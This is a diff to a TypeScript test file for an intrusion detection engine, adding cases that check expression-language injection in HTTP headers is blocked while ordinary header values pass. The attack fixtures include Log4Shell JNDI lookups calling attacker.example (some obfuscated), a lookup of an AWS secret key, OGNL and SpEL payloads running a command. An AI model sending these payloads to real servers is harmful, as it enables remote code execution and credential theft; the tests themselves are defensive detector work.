@@ -5,7 +5,7 @@
  */
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { createIdsEngine, SEVERITY_SCORE, type IdsEngine, type IdsMatch } from '../src/worker/ids/index.js';
+import { createIdsEngine, detectExpression, SEVERITY_SCORE, type IdsEngine, type IdsMatch } from '../src/worker/ids/index.js';
 import { detectCommand } from '../src/worker/ids/command.js';
 import { detectSqli } from '../src/worker/ids/sqli.js';
 import { decodePercent, detectTraversal } from '../src/worker/ids/traversal.js';
@@ -867,5 +867,42 @@ describe('corpus size', () => {
     const benign = BENIGN_URLS.length + BENIGN_USER_AGENTS.length + BENIGN_REFERERS.length + BENIGN_COOKIES.length + BENIGN_BODIES.length + 5;
     assert.ok(ATTACKS.length >= 150, `${ATTACKS.length} attacks`);
     assert.ok(benign >= 150, `${benign} benign`);
+  });
+});
+
+describe('expression-language injection in headers', () => {
+  const engine = createIdsEngine([]);
+  const attacks: [string, string][] = [
+    ['x-api-version', '${jndi:ldap://attacker.example/a}'],
+    ['user-agent', '${${lower:j}ndi:${lower:r}mi://attacker.example/x}'],
+    ['referer', '${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/y}'],
+    ['x-forwarded-host', '${env:AWS_SECRET_ACCESS_KEY}'],
+    ['content-type', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"],
+    ['content-type', "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check','1')}.multipart/form-data"],
+    ['x-custom', '#{T(java.lang.Runtime).getRuntime().exec("id")}'],
+  ];
+  for (const [name, value] of attacks) {
+    it(`finds ${value.slice(0, 40)} in ${name}`, () => {
+      const matches = engine.inspectRequest('/', { [name]: value });
+      assert.ok(matches.some((match) => match.rule === 'expression-injection' && match.location === `header:${name}` && match.action === 'block'), JSON.stringify(matches));
+    });
+  }
+  const benign: [string, string][] = [
+    ['content-type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW'],
+    ['content-type', 'application/json; charset=utf-8'],
+    ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
+    ['x-request-id', '{"trace":"abc","span":"def"}'],
+    ['user-agent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
+    ['x-template', 'Hello ${name}, your total is ${total}'],
+    ['if-none-match', 'W/"5e-1a2b3c"'],
+  ];
+  for (const [name, value] of benign) {
+    it(`leaves ${name}: ${value.slice(0, 40)}`, () => {
+      assert.deepEqual(engine.inspectRequest('/', { [name]: value }).filter((match) => match.rule === 'expression-injection'), []);
+    });
+  }
+  it('detectExpression is bounded on pathological input', () => {
+    assert.equal(detectExpression('${'.repeat(50_000)), true);
+    assert.equal(detectExpression('{'.repeat(100_000)), false);
   });
 });
